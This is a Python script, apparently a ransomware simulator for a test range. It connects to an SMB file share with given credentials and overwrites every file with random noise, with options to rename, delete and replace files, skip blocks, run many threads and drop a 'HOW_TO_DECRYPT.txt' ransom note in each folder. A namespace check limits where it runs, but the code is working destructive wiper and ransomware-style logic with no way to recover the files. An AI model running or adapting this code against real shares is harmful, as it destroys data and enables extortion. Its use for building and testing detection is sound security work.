#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""ransom.py HOST USER PASSWORD SHARE DIRECTORY [OPTION…]: what ransomware does to a share, at --rate files a second.
Each file is read, overwritten with noise of the same length and, unless --in-place, renamed.
    --ext EXT        the new extension
    --random-names   the new name is random, without one
    --replace        written anew as NAME.EXT, the old file deleted
    --first N        only the first N bytes of each file; --every K: only each K-th 4,096
    --rename-first   renamed before it is opened
    --reopen         read by one handle, written by another
    --trailer N      N bytes (a key) behind what is encrypted; --head N: before it, so that all moves
    --block N        bytes a read or write, 32,768 if not said
    --folders        the files of the folders below DIRECTORY, one folder after the other
    --also SHARE     the same directory of another share, too; by turns
    --note           a note, in each folder
    --at-once N      by N threads, each with a connection of its own
    --most N         stops after so many
Prints how many, and the time of each in seconds since the epoch. Only inside a network namespace of the range."""
import argparse
import os
import subprocess
import sys
import threading
import time

from impacket.smbconnection import SMBConnection

if not subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
    sys.exit("not in a namespace of the range")
p = argparse.ArgumentParser()
for a in ("host", "user", "password", "share", "directory"):
    p.add_argument(a)
p.add_argument("--rate", type=float, default=20)
p.add_argument("--ext", default=".locked")
for a in ("--in-place", "--note", "--random-names", "--replace", "--folders", "--rename-first", "--reopen"):
    p.add_argument(a, action="store_true")
p.add_argument("--first", type=int, default=0)
p.add_argument("--every", type=int, default=1)
p.add_argument("--at-once", type=int, default=1)
for a, least in (("--trailer", 0), ("--head", 0), ("--block", 32768), ("--most", 0)):
    p.add_argument(a, type=int, default=least)
p.add_argument("--also")
a = p.parse_args()


def connect():
    c = SMBConnection(a.host, a.host)
    c.login(a.user, a.password, "CORP")
    return c, {s: c.connectTree(s) for s in shares}


def listed(share, folder):
    return [f for f in first.listPath(share, folder + "\\*") if f.get_longname() not in (".", "..")]


def read(c, tree, f, at, size):
    data = b""
    while len(data) < size:
        data += c.readFile(tree, f, at + len(data), size - len(data))
    return data


def write(c, tree, f, data, at):
    while data:
        c.writeFile(tree, f, data[:a.block], at)
        data, at = data[a.block:], at + a.block


def noise(c, tree, path, f, to, size):
    """What is read is written as noise, piece by piece; or, with --reopen or --head, when all is read."""
    block = 4096 if a.every > 1 else a.block
    if a.head or a.reopen:
        data = b"".join(read(c, tree, f, at, min(block, size - at)) for at in range(0, size, block))
        if a.reopen:
            c.closeFile(tree, f)
            to = c.openFile(tree, path)
        write(c, tree, to, os.urandom(a.head + len(data) + a.trailer), 0)
        return to
    for at in range(0, size, block * a.every):
        data = read(c, tree, f, at, min(block, size - at))
        c.writeFile(tree, to, os.urandom(len(data)), at)
    if a.trailer:
        c.writeFile(tree, to, os.urandom(a.trailer), size)
    return to


def encrypt(c, trees, share, path):
    tree, old = trees[share], path
    if a.rename_first:
        c.rename(share, path, path + a.ext)
        path += a.ext
    f = c.openFile(tree, path)
    size = c.queryInfo(tree, f)["EndOfFile"]
    size = min(size, a.first or size)
    to = c.createFile(tree, path + a.ext) if a.replace else f
    to = noise(c, tree, path, f, to, size)
    c.closeFile(tree, to)
    if a.replace:
        c.closeFile(tree, f)
        c.deleteFile(share, path)
    elif a.random_names:
        c.rename(share, path, path.rsplit("\\", 1)[0] + "\\" + os.urandom(12).hex())
    elif not a.in_place and not a.rename_first:
        c.rename(share, path, path + a.ext)
    sys.stdout.write(f"{time.time():.6f} {share}\\{old}\n")  # one write: threads
    sys.stdout.flush()


def note(share, folder):
    tree = first_trees[share]
    n = first.createFile(tree, folder + "\\HOW_TO_DECRYPT.txt")
    first.writeFile(tree, n, b"Your files are encrypted. Pay.\n")
    first.closeFile(tree, n)


shares = [a.share] + ([a.also] if a.also else [])
first, first_trees = connect()
files = []
for share in shares:
    folders = [a.directory + "\\" + f.get_longname() for f in listed(share, a.directory) if f.is_directory()]
    files.append(sorted((share, d + "\\" + f.get_longname()) for d in (folders if a.folders else [a.directory])
                        for f in listed(share, d) if not f.is_directory()))
paths = [p for turn in zip(*files) for p in turn][:a.most or None]
begun = time.time()


def work(which, c, trees):
    noted = set()
    for n in range(which, len(paths), a.at_once):
        time.sleep(max(0, begun + n / a.rate - time.time()))
        share, path = paths[n]
        encrypt(c, trees, share, path)
        folder = path.rsplit("\\", 1)[0]
        if a.note and which == 0 and (share, folder) not in noted:
            noted.add((share, folder))
            note(share, folder)


threads = [threading.Thread(target=work, args=(i, *connect())) for i in range(1, a.at_once)]
for t in threads:
    t.start()
work(0, first, first_trees)
for t in threads:
    t.join()
print(len(paths), "files")
